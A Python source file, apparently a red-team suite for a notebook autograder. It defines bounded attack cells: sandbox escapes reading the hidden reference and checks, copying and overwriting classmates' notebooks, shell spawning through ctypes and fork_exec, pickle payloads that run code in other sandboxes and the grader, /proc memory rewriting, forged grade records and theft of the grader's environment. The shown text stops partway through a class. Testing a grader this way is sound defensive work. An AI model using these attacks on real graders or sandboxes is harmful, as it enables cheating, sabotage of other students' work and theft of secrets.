"""The attacks: each is one notebook cell appended to the blank `cnn_costs` notebook.

The attacker is given maximal knowledge: the first line of its cell is `K = {...}` with the
absolute paths of the classmates' notebooks, of the reference (solutions/cnn_costs.py) and
the hidden checks, of the venv's site-packages and bin/, of the HOME the run uses, and the
points of every question (see `knowledge`). A helper prelude (PRELUDE) follows, then the
attack itself.

Every attack is bounded, so that running it against a weak sandbox cannot hose the machine:
at most ~100 processes (each ends within 20 s), about 1.4 GB written in all (1 GB inside its
own temp folder, 384 MB outside in files whose names carry the attack's tag, which the
harness removes), no signal to anything but the grading run's own processes (checked
against the run's command line first), code run in another sandbox or in the grader only
for this run's own processes (a setup pickle must name this run's folders), and nothing
planted that would change a later Python run (a planted .pth or sitecustomize.py holds only
a comment and a path that does not exist; a planted secrets.py re-exports the standard
library's). Every file an attack creates outside its own folder has TAG_PREFIX and its id
in its name, or MARKER and its tag in its content, so the harness can name the attack and
clean up after it.
"""
from __future__ import annotations

import json
import textwrap
from dataclasses import dataclass
from pathlib import Path

TAG_PREFIX = "redteam-"
MARKER = "cnnlab-redteam-planted"  # K["marker"]: the planted files' content, with the tag
FORGED_MARKER = "redteam-forged"
# mtime the project-tree attack gives an existing source file (restored afterwards).
TOUCH_NS = 946_684_800_000_000_123
# Text that must never reach a student's feedback: the hidden checks' and the reference's
# source (the reference's signatures are annotated, the blank stubs' are not).
LEAK_MARKERS = ("def check_", "QUESTIONS:", "from solutions", "def conv_output_size(size: int",
                "def _require_int(")


@dataclass(frozen=True)
class Attack:
    id: str
    what: str      # the route, in words
    aims: str      # what it wins if the route is open
    body: str      # the cell's code after K and the prelude

    @property
    def tag(self) -> str:
        return TAG_PREFIX + self.id


def _code(text: str) -> str:
    return textwrap.dedent(text).strip("\n") + "\n"


# Helpers every attack cell starts with. They only use what a student can: the standard
# library, torch/numpy from the venv, and the paths in K.
PRELUDE = _code(r'''
import os, sys, json, time, re
_RT_LOG = []
_RT_NAMES = tuple(K["points"])


def _rt_note(text):
    _RT_LOG.append(str(text)[:300])
    log = os.environ.get("CNNLAB_REDTEAM_LOG")  # set only by a developer's diagnostic run
    if log:
        try:
            fd = _rt_open(os.path.join(log, K["tag"] + ".log"),
                          os.O_WRONLY | os.O_CREAT | os.O_APPEND, 0o644)
            os.write(fd, (str(text)[:2000] + "\n").encode())
            os.close(fd)
        except Exception:
            pass


def _rt_try(what, fn):
    try:
        result = fn()
        _rt_note(f"OK {what}: {result!r}"[:300])
        return result
    except Exception as err:
        _rt_note(f"FAILED {what}: {type(err).__name__}: {err}")
        return None


def _rt_open(path, flags=os.O_RDONLY, mode=0o644):
    """os.open; where the path is refused, the same path relative to a dir fd of "/"."""
    try:
        return os.open(path, flags, mode)
    except PermissionError:
        root = os.open("/", os.O_RDONLY | os.O_DIRECTORY)
        try:
            return os.open(os.path.abspath(path).lstrip("/"), flags, mode, dir_fd=root)
        finally:
            os.close(root)


def _rt_read_fd(fd):
    chunks = []
    try:
        while True:
            chunk = os.read(fd, 1 << 20)
            if not chunk:
                break
            chunks.append(chunk)
    finally:
        os.close(fd)
    return b"".join(chunks)


def _rt_read(path):
    return _rt_read_fd(_rt_open(path))


def _rt_write(path, data, exclusive=True):
    """Create `path` (never replacing a file that exists, unless exclusive=False)."""
    flags = os.O_WRONLY | os.O_CREAT | (os.O_EXCL if exclusive else os.O_TRUNC)
    fd = _rt_open(path, flags, 0o644)
    try:
        os.write(fd, data if isinstance(data, bytes) else data.encode())
    finally:
        os.close(fd)
    return path


def _rt_listdir(path):
    try:
        return os.listdir(path)
    except PermissionError:
        fd = _rt_open(path, os.O_RDONLY | os.O_DIRECTORY)
        try:
            return os.listdir(fd)
        finally:
            os.close(fd)


def _rt_readlink(path):
    try:
        return os.readlink(path)
    except PermissionError:
        root = os.open("/", os.O_RDONLY | os.O_DIRECTORY)
        try:
            return os.readlink(path.lstrip("/"), dir_fd=root)
        finally:
            os.close(root)


def _rt_cells(raw):
    """The code of a notebook's code cells, without the lines only Jupyter runs."""
    notebook = json.loads(raw)
    code = []
    for cell in notebook.get("cells", []):
        if cell.get("cell_type") != "code":
            continue
        source = cell.get("source", "")
        source = "".join(source) if isinstance(source, list) else str(source)
        code.append("\n".join(line for line in source.splitlines()
                              if not line.lstrip().startswith(("import otter", "grader", "%", "!"))))
    return "\n\n".join(code)


def _rt_adopt(source):
    """Run `source` apart; if its functions work, make them this notebook's (the cheat)."""
    namespace = {"__name__": "__rt__"}
    exec(compile(source, "<stolen>", "exec"), namespace)
    if namespace["conv_output_size"](227, 11, 4, 2) != 56:
        raise ValueError("not a working implementation")
    for name in _RT_NAMES:
        if name in namespace:
            globals()[name] = namespace[name]
    _rt_note("ADOPTED a working implementation")
    return True


def _rt_record(path, full):
    questions = {q: {"score": p if full else 0.0, "possible": p,
                     "feedback": "all tests passed" if full else "not implemented"}
                 for q, p in K["points"].items()}
    possible = float(sum(K["points"].values()))
    return json.dumps({"submission": path, "assignment": "cnn_costs",
                       "total": possible if full else 0.0, "possible": possible,
                       "questions": questions, "error": None})


def _rt_forged():
    """Records in the CLI's --json format: this notebook at full marks, the classmates at
    0, and a notebook that was never submitted."""
    lines = [_rt_record(K["me"], True)] + [_rt_record(c, False) for c in K["classmates"]]
    lines.append(_rt_record(os.path.join(K["classmates_dir"], "carol.ipynb"), True))
    return ("\n".join(lines) + "\n").encode()


def _rt_ppid_of(pid):
    stat = _rt_read(f"/proc/{pid}/stat").decode()
    return int(stat.rsplit(")", 1)[1].split()[1])


def _rt_cmdline(pid):
    return _rt_read(f"/proc/{pid}/cmdline").replace(b"\0", b" ").decode(errors="replace")


def _rt_grading_cli():
    """The pid of `cnnlab grade` (the grader's parent), or None if it is not one."""
    cli = _rt_ppid_of(os.getppid())
    return cli if "cnnlab" in _rt_cmdline(cli) and "grade" in _rt_cmdline(cli) else None


def _rt_site_library():
    """A shared library inside the venv's site-packages (the guards allow loading those)."""
    import glob
    for pattern in ("torch/lib/libc10.so", "numpy/_core/_multiarray_umath*.so",
                    "numpy/core/_multiarray_umath*.so", "*.libs/*.so*", "*/*.so"):
        found = sorted(glob.glob(os.path.join(K["site_packages"], pattern)))
        if found:
            return found[0]
    raise FileNotFoundError("no shared library in site-packages")


def _rt_spawn(argv, setsid=False):
    """Start a program without subprocess (multiprocessing's helper calls
    _posixsubprocess.fork_exec directly)."""
    from multiprocessing.util import spawnv_passfds
    if setsid:
        argv = ["/usr/bin/setsid", *argv] if os.path.exists("/usr/bin/setsid") else argv
    return spawnv_passfds(os.fsencode(argv[0]), [os.fsencode(a) for a in argv], ())
''')


ATTACKS: list[Attack] = [
    # --- reading the reference, the hidden checks, other submissions ----------------------
    Attack("dir_fd_reference", "os.open('/') then the reference's relative path with dir_fd",
           "full marks from the reference's code", _code('''
        root = os.open("/", os.O_RDONLY | os.O_DIRECTORY)
        fd = os.open(K["solution"].lstrip("/"), os.O_RDONLY, dir_fd=root)
        _rt_adopt(_rt_read_fd(fd).decode())
    ''')),
    Attack("hardlink_reference", "os.link of the reference into the temp folder (src_dir_fd), "
           "then a plain open of the link", "full marks from the reference's code", _code('''
        root = os.open("/", os.O_RDONLY | os.O_DIRECTORY)
        os.link(K["solution"].lstrip("/"), "linked_reference.py", src_dir_fd=root)
        with open("linked_reference.py") as f:
            _rt_adopt(f.read())
    ''')),
    Attack("mmap_fd_reference", "mmap of every inherited regular-file fd, then of the "
           "reference opened through a dir fd", "full marks from the reference's code", _code('''
        import mmap, stat
        for name in os.listdir("/proc/self/fd"):
            fd = int(name)
            try:
                if not stat.S_ISREG(os.fstat(fd).st_mode) or os.fstat(fd).st_size == 0:
                    continue
                data = mmap.mmap(fd, 0, access=mmap.ACCESS_READ)[:]
            except Exception as err:
                _rt_note(f"fd {fd}: {err}")
                continue
            _rt_try(f"adopt inherited fd {fd}", lambda: _rt_adopt(data.decode()))
        root = os.open("/", os.O_RDONLY | os.O_DIRECTORY)
        fd = os.open(K["solution"].lstrip("/"), os.O_RDONLY, dir_fd=root)
        _rt_adopt(mmap.mmap(fd, 0, access=mmap.ACCESS_READ)[:].decode())
    ''')),
    Attack("torch_from_file_reference", "torch.from_file on the reference (C++ opens it)",
           "full marks from the reference's code", _code('''
        import torch
        size = os.stat(K["solution"]).st_size
        data = torch.from_file(K["solution"], shared=False, size=size, dtype=torch.uint8)
        _rt_adopt(bytes(data.tolist()).decode())
    ''')),
    Attack("proc_self_paths", "/proc/self/root, /proc/self/fd/N, /dev/fd/N, /proc/self/cwd "
           "paths to the reference; reopening every fd of /proc/self/fd",
           "full marks from the reference's code", _code('''
        import stat
        root = os.open("/", os.O_RDONLY | os.O_DIRECTORY)
        up = "../" * os.getcwd().count("/")
        sol = K["solution"]
        routes = [f"/proc/self/root{sol}", f"/proc/thread-self/root{sol}",
                  f"/proc/{os.getpid()}/root{sol}", f"/proc/self/fd/{root}{sol}",
                  f"/dev/fd/{root}{sol}", f"/proc/self/cwd/{up}{sol.lstrip('/')}",
                  f"{up}{sol.lstrip('/')}"]
        done = False
        for route in routes:
            def attempt(route=route):
                with open(route) as f:
                    return _rt_adopt(f.read())
            done = done or bool(_rt_try(route, attempt))
        for name in os.listdir("/proc/self/fd"):
            def reopen(name=name):
                fd = os.open(f"/proc/self/fd/{name}", os.O_RDONLY | os.O_NONBLOCK)
                if not stat.S_ISREG(os.fstat(fd).st_mode):
                    os.close(fd)
                    return f"not a file: {_rt_readlink('/proc/self/fd/' + name)}"
                return _rt_adopt(_rt_read_fd(fd).decode())
            _rt_try(f"reopen /proc/self/fd/{name}", reopen)
    ''')),
    Attack("samples_correct_notebook", "a plain open of the project's samples/cnn_costs/"
           "correct.ipynb (not among the refused folders)", "full marks from a correct "
           "notebook shipped with the project", _code('''
        with open(os.path.join(K["root"], "samples", "cnn_costs", "correct.ipynb")) as f:
            _rt_adopt(_rt_cells(f.read()))
    ''')),
    Attack("git_objects_reference", "reads the project's .git (loose objects and packs) with "
           "plain opens and runs the reference found in it", "full marks from the "
           "reference's code in the git history", _code('''
        import ast, glob, struct, zlib

        def blobs(git, limit=400_000):
            for path in glob.glob(os.path.join(git, "objects", "??", "*")):
                try:
                    with open(path, "rb") as f:
                        header, _, body = zlib.decompress(f.read()).partition(b"\\0")
                except Exception:
                    continue
                if header.startswith(b"blob"):
                    yield body
            for idx in glob.glob(os.path.join(git, "objects", "pack", "*.idx")):
                with open(idx, "rb") as f:
                    table = f.read()
                with open(idx[:-4] + ".pack", "rb") as f:
                    pack = f.read()
                count = struct.unpack(">I", table[8 + 255 * 4: 8 + 256 * 4])[0]
                offsets = 8 + 256 * 4 + count * 24
                large = offsets + count * 4
                for i in range(count):
                    off = struct.unpack(">I", table[offsets + 4 * i: offsets + 4 * i + 4])[0]
                    if off & 0x80000000:
                        j = off & 0x7FFFFFFF
                        off = struct.unpack(">Q", table[large + 8 * j: large + 8 * j + 8])[0]
                    byte = pack[off]
                    kind, size, shift, pos = (byte >> 4) & 7, byte & 15, 4, off + 1
                    while byte & 0x80:
                        byte = pack[pos]
                        pos += 1
                        size |= (byte & 0x7F) << shift
                        shift += 7
                    if kind == 3 and size <= limit:
                        try:
                            yield zlib.decompressobj().decompress(pack[pos:pos + size + 4096], size)
                        except Exception:
                            continue

        def definitions(text):
            """The module's top-level defs and assignments, plus harmless imports."""
            tree = ast.parse(text)
            keep = [n for n in tree.body if isinstance(n, (ast.FunctionDef, ast.Assign))
                    or (isinstance(n, ast.ImportFrom)
                        and n.module in ("__future__", "types", "math", "typing"))]
            names = {n.name for n in keep if isinstance(n, ast.FunctionDef)}
            if not set(_RT_NAMES) <= names:
                raise ValueError("not a full implementation")
            return compile(ast.Module(body=keep, type_ignores=[]), "<git>", "exec")

        for body in blobs(os.path.join(K["root"], ".git")):
            if b"def cost_table(" not in body or b"def conv_output_size(" not in body:
                continue
            try:
                code = definitions(body.decode())
                namespace = {"__name__": "__rt__"}
                exec(code, namespace)
                if namespace["conv_output_size"](227, 11, 4, 2) == 56:
                    for name in _RT_NAMES:
                        globals()[name] = namespace[name]
                    _rt_note("ADOPTED from git")
                    break
            except Exception as err:
                _rt_note(f"blob rejected: {err}")
    ''')),
    Attack("copy_classmate_injected", "a plain open of a classmate's notebook (its path given), "
           "and exec of its code cells", "full marks from a classmate's answers", _code('''
        for path in K["classmates"]:
            if _rt_try(path, lambda: _rt_adopt(_rt_cells(open(path).read()))):
                break
    ''')),
    Attack("copy_classmate_via_proc_cmdline", "finds the submissions in /proc/<grader's "
           "parent>/cmdline (read through a dir fd), reads them through a dir fd and runs "
           "their code", "full marks from a classmate's answers", _code('''
        parent = os.getppid()
        cli = _rt_ppid_of(parent)
        found = []
        for pid in (parent, cli):
            for arg in _rt_read(f"/proc/{pid}/cmdline").split(b"\\0"):
                if arg.endswith(b".ipynb"):
                    path = os.fsdecode(arg)
                    if not os.path.isabs(path):
                        path = os.path.join(_rt_readlink(f"/proc/{cli}/cwd"), path)
                    found.append(path)
        _rt_note(f"found {len(found)} notebooks in the command lines")

        def copy(path):
            raw = _rt_read(path).decode()
            if '"redteam-attack"' in raw:  # bounded: never run another attack's cell
                raise ValueError("an attack notebook")
            return _rt_adopt(_rt_cells(raw))

        for path in found:
            if path != K["me"] and _rt_try(path, lambda: copy(path)):
                break
    ''')),
    Attack("ctypes_site_library_system", "ctypes.CDLL of a shared library inside "
           "site-packages, then libc's system() through it", "full marks: a shell copies the "
           "reference into the temp folder", _code('''
        import ctypes
        lib = ctypes.CDLL(_rt_site_library())
        out = os.path.join(os.getcwd(), "copied_reference.py")
        status = lib.system(f"cat '{K['solution']}' > '{out}'".encode())
        _rt_note(f"system() returned {status}")
        with open(out) as f:
            _rt_adopt(f.read())
    ''')),
    Attack("ctypes_libc_handle", "_ctypes.dlopen of a site-packages library, dlopen('libc.so.6') "
           "through it, then libc's open() under the allowed library's name",
           "full marks from the reference read with libc's open()", _code('''
        import ctypes, _ctypes
        so = _rt_site_library()
        handle = _ctypes.dlopen(so, os.RTLD_NOW)
        _rt_try("_ctypes.dlsym", lambda: _ctypes.dlsym(handle, "open"))
        _rt_try("CDLL('libc.so.6')", lambda: ctypes.CDLL("libc.so.6"))
        lib = ctypes.CDLL(so, handle=handle)
        lib.dlopen.restype = ctypes.c_void_p
        libc = ctypes.CDLL(so, handle=lib.dlopen(b"libc.so.6", os.RTLD_NOW))
        fd = libc.open(K["solution"].encode(), os.O_RDONLY)
        _rt_note(f"libc.open gave fd {fd}")
        _rt_adopt(_rt_read_fd(fd).decode())
    ''')),
    Attack("posixsubprocess_shell", "_posixsubprocess.fork_exec (via multiprocessing.util."
           "spawnv_passfds) of /bin/sh", "full marks: the shell copies the reference into the "
           "temp folder", _code('''
        out = os.path.join(os.getcwd(), "copied_reference.py")
        pid = _rt_spawn(["/bin/sh", "-c", f"cat '{K['solution']}' > '{out}'"])
        os.waitpid(pid, 0)
        with open(out) as f:
            _rt_adopt(f.read())
    ''')),
    Attack("multiprocessing_spawn", "a multiprocessing 'spawn' Process (a fresh interpreter "
           "without the audit hook) running exec()", "full marks: the child copies the "
           "reference into the temp folder", _code('''
        import multiprocessing
        out = os.path.join(os.getcwd(), "copied_reference.py")
        code = f"open({out!r}, 'w').write(open({K['solution']!r}).read())"
        child = multiprocessing.get_context("spawn").Process(target=exec, args=(code,))
        child.start()
        child.join(20)
        with open(out) as f:
            _rt_adopt(f.read())
    ''')),
    Attack("exfiltrate_checks_in_feedback", "reads the hidden checks and the reference (dir fd) "
           "and raises their text from graded functions", "the hidden tests' and the "
           "reference's source in its own feedback", _code('''
        checks = _rt_read(K["checks"]).decode()
        reference = _rt_read(K["solution"]).decode()
        leak_checks = checks[checks.find("def check_conv_params"):][:280]
        leak_reference = reference[reference.find("def conv_output_size"):][:280]

        # RuntimeError, not ValueError: the checks of invalid arguments must not pass.
        def conv_params(in_channels, out_channels, kernel, bias=True):
            raise RuntimeError(leak_checks)

        def fc_params(in_features, out_features, bias=True):
            raise RuntimeError(leak_reference)
    ''')),
    Attack("grader_environ_in_feedback", "reads /proc/<grader>/environ (dir fd) and raises "
           "it from graded functions", "the grader's environment (its secrets) in its own "
           "feedback", _code('''
        environ = _rt_read(f"/proc/{os.getppid()}/environ").decode(errors="replace")
        leak = " ".join(v for v in environ.split("\\0") if v.startswith("CNNLAB"))[:400]
        leak = leak or environ[:400]

        def conv_params(in_channels, out_channels, kernel, bias=True):
            raise RuntimeError(leak)

        def fc_flops(in_features, out_features):
            raise RuntimeError(leak)
    ''')),
    # --- writing outside the temp folder -------------------------------------------------
    Attack("overwrite_classmates", "opens the classmates' notebooks for writing (plainly, "
           "then through a dir fd) and writes an empty notebook", "the classmates score 0",
           _code('''
        empty = json.dumps({"cells": [{"cell_type": "code", "metadata": {}, "outputs": [],
                                        "execution_count": None,
                                        "source": "# overwritten by a classmate"}],
                            "metadata": {}, "nbformat": 4, "nbformat_minor": 5}).encode()
        for path in K["classmates"]:
            def overwrite(path=path):
                fd = _rt_open(path, os.O_WRONLY | os.O_TRUNC)
                os.write(fd, empty)
                os.close(fd)
                return path
            _rt_try(f"overwrite {path}", overwrite)
    ''')),
    Attack("write_project_tree", "creates files in the project (.cnnlab_build/, tests/, "
           "solutions/, autograder/checks/, samples/, the root) and sets the mtime of "
           "solutions/cnn_costs.py", "planted files in the project and its build cache",
           _code(f'''
        tag, root = K["tag"], K["root"]
        content = "# " + K["marker"] + "\\n"
        build = os.path.join(root, ".cnnlab_build")
        if not os.path.isdir(build):
            _rt_try("mkdir .cnnlab_build", lambda: os.mkdir(build))
        for rel in (".cnnlab_build/" + tag + ".txt", "tests/" + tag + ".txt",
                    "solutions/" + tag + ".py", "autograder/checks/" + tag + ".py",
                    "samples/" + tag + ".txt", tag + ".txt"):
            _rt_try(rel, lambda rel=rel: _rt_write(os.path.join(root, rel), content))
        target = os.path.join(root, "solutions", "cnn_costs.py")
        def touch():
            try:
                os.utime(target, ns=({TOUCH_NS}, {TOUCH_NS}))
            except PermissionError:
                fd = os.open("/", os.O_RDONLY | os.O_DIRECTORY)
                os.utime(target.lstrip("/"), ns=({TOUCH_NS}, {TOUCH_NS}), dir_fd=fd)
        _rt_try("utime solutions/cnn_costs.py", touch)
    ''')),
    Attack("plant_in_venv", "creates a .pth and a sitecustomize.py in the venv's "
           "site-packages and a secrets.py in its bin/", "code that every later Python of "
           "the venv (and every later sandbox) would run", _code('''
        tag, marker = K["tag"], K["marker"]
        secrets = (f"# {marker}: a module named like the standard library's, planted in bin/\\n"
                   "import importlib.util as _u, os as _o, sysconfig as _c\\n"
                   "_s = _u.spec_from_file_location('secrets', "
                   "_o.path.join(_c.get_paths()['stdlib'], 'secrets.py'))\\n"
                   "_m = _u.module_from_spec(_s)\\n_s.loader.exec_module(_m)\\n"
                   "globals().update({k: v for k, v in vars(_m).items() "
                   "if not k.startswith('__')})\\n")
        plants = {
            os.path.join(K["site_packages"], tag + ".pth"):
                f"# {marker}\\n/nonexistent-{tag}\\n",
            os.path.join(K["site_packages"], "sitecustomize.py"): f"# {marker}\\n",
            os.path.join(K["bin"], "secrets.py"): secrets,
        }
        for path, text in plants.items():
            _rt_try(f"plant {path}", lambda path=path, text=text: _rt_write(path, text))
    ''')),
    Attack("write_home_and_tmp", "writes into ~/.cache, ~/.config, /tmp, /var/tmp, /dev/shm "
           "and the temp folder's parent", "files left outside the temp folder", _code('''
        tag, content = K["tag"], "# " + K["marker"] + "\\n"
        home = os.path.expanduser("~")
        for folder in (os.path.join(home, ".cache", "torch"), os.path.join(home, ".config")):
            _rt_try(f"makedirs {folder}", lambda folder=folder: os.makedirs(folder, exist_ok=True))
        for path in (os.path.join(home, ".cache", tag + ".txt"),
                     os.path.join(home, ".cache", "torch", tag + ".txt"),
                     os.path.join(home, ".config", tag + ".txt"),
                     os.path.join(K["home"], "." + tag + "rc"),
                     "/tmp/" + tag + ".txt", "/var/tmp/" + tag + ".txt",
                     "/dev/shm/" + tag + ".txt", os.path.join("..", tag + "-parent.txt")):
            _rt_try(f"write {path}", lambda path=path: _rt_write(path, content))
    ''')),
    Attack("fill_temp_folder", "16 files of 64 MB (posix_fallocate) inside its own temp "
           "folder", "1 GB of disk: must hit the folder's total cap", _code('''
        for i in range(16):
            fd = os.open(f"fill-{i}.bin", os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o644)
            try:
                try:
                    os.posix_fallocate(fd, 0, 64 << 20)
                except OSError as err:
                    if err.errno not in (95,):  # EOPNOTSUPP: write it instead
                        raise
                    for _ in range(64):
                        os.write(fd, bytes(1 << 20))
            except OSError as err:
                _rt_note(f"file {i}: {err} (a cap)")
                break
            finally:
                os.close(fd)
        _rt_note(f"wrote {i + 1} files")
    ''')),
    Attack("fill_disk_outside", "6 files of 64 MB outside its temp folder (/tmp and "
           "~/.cache)", "384 MB left on the disk", _code('''
        tag = K["tag"]
        home_cache = os.path.join(os.path.expanduser("~"), ".cache")
        os.makedirs(home_cache, exist_ok=True)
        targets = [f"/tmp/{tag}-{i}.bin" for i in range(4)]
        targets += [os.path.join(home_cache, f"{tag}-{i}.bin") for i in range(2)]
        for path in targets:
            def fill(path=path):
                fd = _rt_open(path, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o644)
                try:
                    os.posix_fallocate(fd, 0, 64 << 20)
                finally:
                    os.close(fd)
            _rt_try(f"fill {path}", fill)
    ''')),
    # --- reaching the grader and the other sandboxes ---------------------------------------
    Attack("setup_pickle_race", "watches the temp dir for the setup pickle of the next "
           "sandbox of this run and replaces it with one that runs code when loaded",
           "code run, unguarded, in another submission's sandbox (it writes a tagged file "
           "in /tmp and lifts that sandbox's guards)", _code('''
        import pickle, tempfile
        tmp = tempfile.gettempdir()
        ours = tuple(os.path.realpath(p) for p in (K["classmates_dir"], K["attackers_dir"]))
        victim = os.path.join(tmp, K["tag"] + "-victim-")

        class Payload:
            def __init__(self, setup):
                self.setup = dict(setup, forbidden_paths=[], forbidden_modules=[])

            def __reduce__(self):
                code = (f"(open({victim!r} + str(__import__('os').getpid()) + '.txt', 'w')"
                        f".write({K['marker']!r}), {self.setup!r})[1]")
                return (eval, (code,))

        seen = {n for n in os.listdir(tmp) if n.startswith("cnnlab-sandbox-")}
        hijacked, deadline = 0, time.monotonic() + 8
        while time.monotonic() < deadline and hijacked < 3:
            for name in os.listdir(tmp):
                if not name.startswith("cnnlab-sandbox-") or name in seen:
                    continue
                seen.add(name)
                path = os.path.join(tmp, name)
                try:
                    with open(path, "rb") as f:
                        setup = pickle.loads(f.read())
                except Exception:
                    continue
                # Only this run's sandboxes: their refused paths name our folders.
                if not any(str(p).startswith(ours) for p in setup.get("forbidden_paths", [])):
                    continue
                swap = os.path.join(tmp, f"{K['tag']}-swap-{len(seen)}")
                with open(swap, "wb") as f:
                    f.write(pickle.dumps(Payload(setup)))
                os.rename(swap, path)
                hijacked += 1
            time.sleep(0.001)
        _rt_note(f"replaced {hijacked} setup pickles")
    ''')),
    Attack("pool_pipe_pickle_rce", "finds the process pool's pipes in /proc/<grader>/fd and "
           "/proc/<cli>/fd (dir fd), and writes a framed pickle into them",
           "code run in the trusted grader and CLI processes (a tagged file in /tmp, a "
           "forged record on the CLI's stdout)", _code('''
        import pickle, struct
        grader = os.getppid()
        cli = _rt_grading_cli()

        def pipes(pid, want):
            found = {}
            for name in _rt_listdir(f"/proc/{pid}/fd"):
                try:
                    link = _rt_readlink(f"/proc/{pid}/fd/{name}")
                    info = _rt_read(f"/proc/{pid}/fdinfo/{name}").decode()
                except OSError:
                    continue
                flags = int(re.search(r"flags:\\s+(\\d+)", info).group(1), 8)
                if link.startswith("pipe:") and flags & os.O_ACCMODE in want:
                    found.setdefault(link, int(name))
            return found

        mine = set()
        for name in os.listdir("/proc/self/fd"):
            try:
                mine.add(os.readlink(f"/proc/self/fd/{name}"))
            except OSError:
                pass
        forged = _rt_forged().decode().splitlines()[0]
        code = ("(open('/tmp/' + " + repr(K["tag"]) + " + '-rce-' + str(__import__('os').getpid())"
                " + '.txt', 'w').write(" + repr(K["marker"]) + "), print(" + repr(forged) +
                ", flush=True), __import__('types').SimpleNamespace(work_id=-1, fn=len, "
                "args=((),), kwargs={}, exception=None, result=None, exit_pid=None))[2]")

        class Payload:
            def __reduce__(self):
                return (eval, (code,))

        payload = pickle.dumps(Payload())
        frame = struct.pack("!i", len(payload)) + payload
        if cli is not None:
            # The pool's call and result queues: pipes the grader holds both ends of (they
            # came pickled from the CLI) and the CLI reads. (A pipe only the CLI reads is a
            # worker's sentinel: a byte there reads as the worker's death.)
            readers = pipes(cli, (os.O_RDONLY, os.O_RDWR))
            both = pipes(grader, (os.O_RDONLY, os.O_RDWR))
            for link, fd in pipes(grader, (os.O_WRONLY, os.O_RDWR)).items():
                if fd > 2 and link in readers and link in both and link not in mine:
                    def inject(fd=fd):
                        out = _rt_open(f"/proc/{grader}/fd/{fd}", os.O_WRONLY)
                        os.write(out, frame)
                        os.close(out)
                        return fd
                    _rt_try(f"inject into grader fd {fd} ({link})", inject)
    ''')),
    Attack("proc_ppid_mem", "opens /proc/<grader>/mem read-write (dir fd) and rewrites the "
           "text 'all tests passed' in the grader's memory", "the grader's own records "
           "changed (its later feedback says 'all tests PASSED')", _code('''
        grader = os.getppid()
        maps = _rt_read(f"/proc/{grader}/maps").decode().splitlines()
        mem = _rt_open(f"/proc/{grader}/mem", os.O_RDWR)
        needle, replacement = b"all tests passed", b"all tests PASSED"
        budget, changed = 768 << 20, 0
        for line in maps:
            fields = line.split()
            if not fields[1].startswith("rw"):
                continue
            low, high = (int(x, 16) for x in fields[0].split("-"))
            for start in range(low, high, 16 << 20):
                if budget <= 0:
                    break
                size = min(16 << 20, high - start) + len(needle)
                budget -= size
                try:
                    data = os.pread(mem, min(size, high - start), start)
                except OSError:
                    break
                at = data.find(needle)
                while at >= 0:
                    os.pwrite(mem, replacement, start + at)
                    changed += 1
                    at = data.find(needle, at + 1)
        _rt_note(f"rewrote {changed} copies")
    ''')),
    Attack("forge_stdout_now", "reopens the grader's stdout and stderr through "
           "/proc/<grader>/fd/1 and /fd/2 (dir fd) and writes forged records",
           "forged --json records: itself 14/14, the classmates 0, an unknown notebook",
           _code(f'''
        grader = os.getppid()
        out = _rt_open(f"/proc/{{grader}}/fd/1", os.O_WRONLY | os.O_APPEND)
        os.write(out, _rt_forged())
        err = _rt_open(f"/proc/{{grader}}/fd/2", os.O_WRONLY | os.O_APPEND)
        os.write(err, b"cnnlab grade: all submissions graded ({FORGED_MARKER})\\n")
    ''')),
    Attack("forge_stdout_late_process", "os.fork (refused), then a detached process started "
           "with _posixsubprocess.fork_exec that holds the CLI's stdout and writes forged "
           "records 4 s later", "forged records written after the grader moved on",
           _code(f'''
        cli = _rt_grading_cli()

        def via_fork():
            pid = os.fork()
            if pid == 0:  # the child: detach, hold the CLI's stdout, write later, end
                try:
                    os.setsid()
                    out = _rt_open(f"/proc/{{cli}}/fd/1", os.O_WRONLY | os.O_APPEND)
                    time.sleep(4)
                    os.write(out, _rt_forged())
                finally:
                    os._exit(0)
            return pid

        script = "\\n".join([
            "import os, time",
            "os.setsid()",
            "root = os.open('/', os.O_RDONLY)",
            "fds = []",
            f"for pid in ({{cli!r}}, {{os.getppid()!r}}):",
            "    try:",
            "        fds.append(os.open('proc/%s/fd/1' % pid, os.O_WRONLY | os.O_APPEND, dir_fd=root))",
            "        break",
            "    except Exception:",
            "        pass",
            "time.sleep(4)",
            "for fd in fds:",
            f"    os.write(fd, {{_rt_forged()!r}})",
        ])
        if not _rt_try("os.fork", via_fork):  # where fork is refused: fork_exec
            _rt_note(f"started {{_rt_spawn([sys.executable, '-I', '-c', script])}}")
    ''')),
    Attack("thread_late_forgery", "a thread left running after the cell ends: it forges "
           "records through /proc/<grader>/fd/1 and writes a file in /tmp while the checks "
           "run", "forged records and a file written after the cells ended", _code('''
        import threading
        grader = os.getppid()

        def later():
            time.sleep(0.05)  # the cell has returned: the checks are running
            _rt_try("thread file", lambda: _rt_write(f"/tmp/{K['tag']}-thread.txt", K["marker"]))
            def forge():
                out = _rt_open(f"/proc/{grader}/fd/1", os.O_WRONLY | os.O_APPEND)
                os.write(out, _rt_forged())
                os.close(out)
            _rt_try("thread forgery", forge)

        threading.Thread(target=later).start()
    ''')),
    Attack("atexit_and_finalizers", "atexit handlers, a weakref finalizer and signal "
           "handlers (SIGTERM, SIGHUP, SIGINT, SIGPIPE, SIGUSR1) that forge records and "
           "write a file in /tmp", "forged records and files when the sandbox ends",
           _code('''
        import atexit, signal, weakref
        grader = os.getppid()

        def act(how):
            _rt_try(how, lambda: _rt_write(f"/tmp/{K['tag']}-{how}.txt", K["marker"]))
            def forge():
                out = _rt_open(f"/proc/{grader}/fd/1", os.O_WRONLY | os.O_APPEND)
                os.write(out, _rt_forged())
            _rt_try(how + " forgery", forge)

        atexit.register(act, "atexit")

        class Anchor:
            pass

        _rt_anchor = Anchor()
        weakref.finalize(_rt_anchor, act, "finalizer")
        for sig in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT, signal.SIGPIPE, signal.SIGUSR1):
            signal.signal(sig, lambda signum, frame: act(f"signal{signum}"))
    ''')),
    # --- replies that never end or are huge, odd objects -----------------------------------
    Attack("huge_reply", "fc_flops returns a list of 40 million ints",
           "a grader busy encoding and decoding huge replies", _code('''
        def fc_flops(in_features, out_features):
            return [0] * 40_000_000
    ''')),
    Attack("huge_global", "memory_kb is a global list of 40 million floats, not a function "
           "(the grader's `get` of it has no time limit)", "a grader stuck decoding a huge "
           "reply", _code('''
        memory_kb = [0.0] * 40_000_000
    ''')),
    Attack("never_ending_generators", "functions that return generators and iterators that "
           "never end, and an object whose len() is huge", "a grader that iterates forever",
           _code('''
        import itertools

        class Endless:
            def __len__(self):
